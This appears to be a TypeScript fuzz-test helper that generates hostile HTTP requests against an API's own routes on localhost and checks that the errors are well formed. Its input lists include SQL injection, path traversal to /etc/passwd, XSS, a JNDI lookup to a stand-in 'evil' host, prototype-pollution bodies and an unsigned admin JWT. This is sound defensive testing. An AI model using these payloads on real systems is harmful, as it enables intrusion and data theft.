/**
 * Random and hostile requests for one route of the route table: path parameters, query strings,
 * headers and bodies that are wrong in every way a client (or an attacker) can make them, sent raw
 * (no client-side normalisation), and the one property every answer must have.
 */
import fc from 'fast-check';
import { request as httpRequest } from 'node:http';
import type { z } from 'zod';
import type { RouteDefinition } from '../../../shared/http/route';

export interface RawRequest {
  method: string;
  path: string;
  headers: Record<string, string>;
  body?: Buffer;
}

export interface RawResponse {
  status: number;
  headers: Record<string, string | string[] | undefined>;
  body: string;
}

/** Sends exactly these bytes: the path as given (no dot-segment removal, no encoding), the headers and body as given. */
export function sendRaw(port: number, req: RawRequest): Promise<RawResponse> {
  return new Promise((resolve, reject) => {
    const r = httpRequest(
      {
        host: '127.0.0.1',
        port,
        method: req.method,
        path: req.path,
        agent: false,
        headers: { ...req.headers, ...(req.body ? { 'content-length': String(req.body.length) } : {}) },
      },
      (res) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body: Buffer.concat(chunks).toString('utf8') }));
      },
    );
    r.on('error', reject);
    r.end(req.body);
  });
}

/** None answers 5xx; every error is problem+json with a machine `code` and a human `detail`. */
export function answerProblems(res: RawResponse): string[] {
  const problems: string[] = [];
  if (res.status >= 500) problems.push(`answered ${res.status}`);
  if (res.status >= 400) {
    if (!/^application\/problem\+json/.test(String(res.headers['content-type']))) problems.push(`error with content-type ${res.headers['content-type']}`);
    try {
      const body = JSON.parse(res.body) as { code?: unknown; detail?: unknown };
      if (typeof body.code !== 'string' || !body.code) problems.push('problem without a code');
      if (typeof body.detail !== 'string' || !body.detail) problems.push('problem without a detail');
    } catch {
      problems.push(`error body is not JSON: ${res.body.slice(0, 120)}`);
    }
  }
  return problems;
}

const INJECTIONS = [
  "' OR '1'='1",
  "'; DROP TABLE users; --",
  '1; SELECT pg_sleep(10)',
  "admin'--",
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil/x}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  'prototype',
  'null',
  'undefined',
  'NaN',
  '-1',
  '1e309',
  '9007199254740993',
  '0x1F',
  'T-001',
  'M-001',
  'true',
  '',
  ' ',
  '\u0000',
  '\u202e\u0041',
  'Ω≈ç√∫˜µ≤≥÷',
  '👩‍👩‍👧‍👦🇬🇶',
];

/**
 * Text with U+0000 (raw or as %00) or a lone surrogate once reached PostgreSQL and answered 500
 * (test/hostile/known-bugs.test.ts). Fixed, so the properties send those characters too; set this
 * to true only to hunt other failures while such a bug is open again.
 */
const AVOID_KNOWN_BUGS = false;
const NUL = String.fromCharCode(0);
const avoidKnown = (s: string) =>
  AVOID_KNOWN_BUGS
    ? s
        .split(NUL)
        .join('')
        .replace(/%00|\\u0000/gi, '')
        .replace(/\\ud[89a-f][0-9a-f]{2}/gi, '')
        .replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, '')
    : s;

const rawHostileString = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...INJECTIONS) },
  { weight: 3, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 20 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 20 }) },
  { weight: 1, arbitrary: fc.integer({ min: 200, max: 1500 }).map((n) => 'x'.repeat(n)) },
);
export const hostileString = rawHostileString.map(avoidKnown);

/** Long text for bodies, where no header limit applies. */
const longString = fc.integer({ min: 1000, max: 200_000 }).map((n) => 'x'.repeat(n));

const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: hostileString },
  { weight: 1, arbitrary: longString },
  { weight: 2, arbitrary: fc.oneof(fc.integer(), fc.double(), fc.constantFrom(0, -1, 2 ** 53, -(2 ** 63), 1e308)) },
  { weight: 1, arbitrary: fc.constantFrom(null, true, false) },
  { weight: 1, arbitrary: fc.array(hostileString, { maxLength: 4 }) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
);

/** Keys of a body schema (objects, and every option of a union), so generated bodies reach past the first check. */
export function schemaKeys(schema: z.ZodType | undefined): string[] {
  const def = (
    schema as unknown as { def?: { type?: string; shape?: Record<string, unknown>; options?: z.ZodType[]; innerType?: z.ZodType; in?: z.ZodType } } | undefined
  )?.def;
  if (!def) return [];
  if (def.shape) return Object.keys(def.shape);
  if (def.options) return [...new Set(def.options.flatMap(schemaKeys))];
  return [...schemaKeys(def.innerType), ...schemaKeys(def.in)];
}

const PROTOTYPE_BODIES = [
  '{"__proto__":{"role":"admin","isAdmin":true}}',
  '{"constructor":{"prototype":{"polluted":true}}}',
  '{"kind":"service_fee","serviceCode":"T-001","feeType":"expedition","__proto__":{"amount":1}}',
  '{"email":"a@b.gq","password":"x","__proto__":{"role":"admin"}}',
  '[{"__proto__":null}]',
];

const MALFORMED_BODIES = ['{"a":', '{"a":1,}', "{'a':1}", 'undefined', 'NaN', '\u0000', '\ufeff{"a":1}', '{"a":"\\ud800"}', '"', ''];

export const ONE_MIB = 1024 * 1024;

function bodyText(route: RouteDefinition): fc.Arbitrary<string> {
  const keys = [...schemaKeys(route.body), 'kind', 'id', 'data'];
  const shaped = fc.dictionary(fc.constantFrom(...keys), hostileValue, { maxKeys: keys.length }).map((o) => JSON.stringify(o));
  return fc
    .oneof(
      { weight: 4, arbitrary: shaped },
      { weight: 2, arbitrary: fc.jsonValue().map((v) => JSON.stringify(v) ?? 'null') },
      { weight: 1, arbitrary: fc.constantFrom(...PROTOTYPE_BODIES) },
      { weight: 1, arbitrary: fc.constantFrom(...MALFORMED_BODIES) },
      // Deeply nested arrays and objects.
      { weight: 1, arbitrary: fc.integer({ min: 100, max: 5000 }).map((d) => `${'['.repeat(d)}${']'.repeat(d)}`) },
      { weight: 1, arbitrary: fc.integer({ min: 100, max: 5000 }).map((d) => `${'{"a":'.repeat(d)}1${'}'.repeat(d)}`) },
      // Larger than the 1 MiB any route accepts.
      { weight: 1, arbitrary: fc.constantFrom(1.1, 2).map((mib) => JSON.stringify({ data: 'x'.repeat(Math.floor(mib * ONE_MIB)) })) },
      { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 300 }) },
    )
    .map(avoidKnown);
}

/** Header values Node will send: tab, printable ASCII and Latin-1. */
const headerSafe = (s: string) => s.replace(/[^\t\x20-\x7e\x80-\xff]/g, '?');

const CONTENT_TYPES = [
  'application/json',
  'application/json; charset=utf-8',
  'application/json; charset=utf-16',
  'application/json; charset=latin1',
  'application/vnd.api+json',
  'text/plain',
  'text/html',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=----x',
  'application/xml',
  'application/octet-stream',
  '*/*',
  'garbage',
  ';;;',
];

const UNSIGNED_JWT = `${Buffer.from('{"alg":"none","typ":"at+jwt"}').toString('base64url')}.${Buffer.from('{"sub":"00000000-0000-0000-0000-000000000000","role":"admin"}').toString('base64url')}.`;
// Every request stays under Node's 16 KiB limit on the request line and headers: beyond it Node answers 431 before any
// code of ours runs (in production Google's front end answers it).
const GARBAGE_AUTHORIZATION = [
  'Bearer',
  'Bearer ',
  'bearer x',
  'Basic dXNlcjpwYXNz',
  'Bearer a.b.c',
  `Bearer ${UNSIGNED_JWT}`,
  `Bearer ${'a'.repeat(5000)}`,
  'Bearer 🙂',
  'Token abc',
  'Bearer x y',
];

/** Percent-encoded hostile text, or raw ASCII that stays in the path as written (dot segments, %00, broken escapes). */
const pathSegment = fc
  .oneof(
    { weight: 3, arbitrary: hostileString.map((s) => encodeURIComponent(s)) },
    { weight: 1, arbitrary: fc.uuid().map((u) => u) },
    {
      weight: 2,
      arbitrary: fc.constantFrom(
        '..',
        '../..',
        '..%2f..%2fetc%2fpasswd',
        '%2e%2e',
        '%00',
        '%',
        '%zz',
        '%E0%A4%A',
        '%C0%AE',
        'T-001%00',
        '.',
        '%20',
        ';',
        '%3B',
        'a'.repeat(3000),
      ),
    },
  )
  .map(avoidKnown);

const querySuffix = fc
  .constantFrom('', '', '&', '&&&', '&%00', '&%', '&=', '&=&=', '&%E0%A4%A=1', '#frag', '&a[b][c]=1', '&__proto__[polluted]=1', '&constructor[prototype][x]=1')
  .map(avoidKnown);

type Dimension = 'params' | 'query' | 'headers' | 'body';
const DIMENSIONS: Dimension[] = ['params', 'query', 'headers', 'body'];

/**
 * One request: most often one dimension hostile and the others plausible (so the hostile part reaches
 * past the first check), sometimes everything hostile at once.
 */
export function requestFor(route: RouteDefinition, caller: { token?: string }): fc.Arbitrary<RawRequest> {
  const queryKeys = [...Object.keys(route.query?.shape ?? {}), '__proto__', 'constructor', 'limit', 'q', 'x'];
  const hostileQuery = fc.record({
    pairs: fc.array(fc.tuple(fc.oneof(fc.constantFrom(...queryKeys), fc.string({ maxLength: 8 })), hostileString), { minLength: 1, maxLength: 6 }),
    suffix: querySuffix,
  });
  const plainParam = fc.oneof(fc.uuid(), fc.constantFrom('T-001', 'T-002', 'M-001'));
  const hostileAuthorization = caller.token
    ? fc.oneof({ weight: 2, arbitrary: fc.constant(`Bearer ${caller.token}`) }, { weight: 3, arbitrary: fc.constantFrom(...GARBAGE_AUTHORIZATION) })
    : fc.option(
        fc.oneof(
          fc.constantFrom(...GARBAGE_AUTHORIZATION),
          hostileString.map((s) => `Bearer ${s}`),
        ),
        { nil: undefined },
      );
  const hostileHeaders = fc.record({
    contentType: fc.option(fc.constantFrom(...CONTENT_TYPES), { nil: undefined, freq: 5 }),
    idempotencyKey: fc.option(fc.oneof(hostileString, fc.constant('k'.repeat(300))), { nil: undefined }),
    encoding: fc.option(fc.constantFrom('gzip', 'deflate', 'br', 'identity', 'x-garbage'), { nil: undefined, freq: 3 }),
    authorization: hostileAuthorization,
    extra: fc.option(
      fc.record({
        name: fc.constantFrom('x-forwarded-for', 'origin', 'accept', 'accept-language', 'x-cloud-trace-context', 'traceparent', 'x-bange-signature'),
        value: hostileString,
      }),
      { nil: undefined },
    ),
  });
  const plainHeaders = fc.record({
    contentType: fc.constant<string | undefined>('application/json'),
    idempotencyKey: fc.uuid().map<string | undefined>((u) => u),
    encoding: fc.constant<string | undefined>(undefined),
    authorization: fc.constant(caller.token ? `Bearer ${caller.token}` : undefined),
    extra: fc.constant(undefined),
  });
  const withBody = route.method !== 'get';
  const keys = [...schemaKeys(route.body), 'kind', 'id', 'data'];
  const plainBody = fc.dictionary(fc.constantFrom(...keys), hostileValue, { maxKeys: keys.length }).map((o) => avoidKnown(JSON.stringify(o)));

  return fc.constantFrom<Dimension | 'all'>(...DIMENSIONS, 'all').chain((focus) => {
    const hostile = (d: Dimension) => focus === 'all' || focus === d;
    return fc
      .record({
        params: fc.array(hostile('params') ? pathSegment : plainParam, { minLength: 3, maxLength: 3 }),
        query: hostile('query') ? hostileQuery : fc.constant({ pairs: [] as [string, string][], suffix: '' }),
        headers: hostile('headers') ? hostileHeaders : plainHeaders,
        body: withBody ? (hostile('body') ? fc.option(bodyText(route), { nil: undefined, freq: 10 }) : plainBody) : fc.constant(undefined),
      })
      .map((r) => {
        let i = 0;
        const path = route.path.replace(/\{\w+\}/g, () => r.params[i++]!);
        // Pairs past ~9 KB are dropped, so the request line stays under Node's header limit.
        const pairs = r.query.pairs.map(([k, v]) => `${encodeURIComponent(k)}=${encodeURIComponent(v)}`);
        while (pairs.join('&').length + path.length > 9000) pairs.pop();
        const search = pairs.join('&');
        const h = r.headers;
        const headers: Record<string, string> = {};
        if (h.contentType !== undefined) headers['content-type'] = h.contentType;
        if (h.idempotencyKey !== undefined) headers['idempotency-key'] = headerSafe(h.idempotencyKey);
        if (h.encoding !== undefined) headers['content-encoding'] = h.encoding;
        if (h.authorization !== undefined) headers.authorization = headerSafe(h.authorization);
        if (h.extra) headers[h.extra.name] = headerSafe(h.extra.value);
        return {
          method: route.method.toUpperCase(),
          path: `${path}${search || r.query.suffix ? `?${search}${r.query.suffix}` : ''}`,
          headers,
          ...(r.body !== undefined ? { body: Buffer.from(r.body, 'utf8') } : {}),
        };
      });
  });
}

/** How a failing request reads in a report: method, path, headers and the start of the body. */
export function describeRequest(req: RawRequest): string {
  const body = req.body ? ` body(${req.body.length} bytes): ${req.body.toString('utf8').slice(0, 200)}` : '';
  return `${req.method} ${req.path.slice(0, 300)} headers ${JSON.stringify(req.headers).slice(0, 300)}${body}`;
}
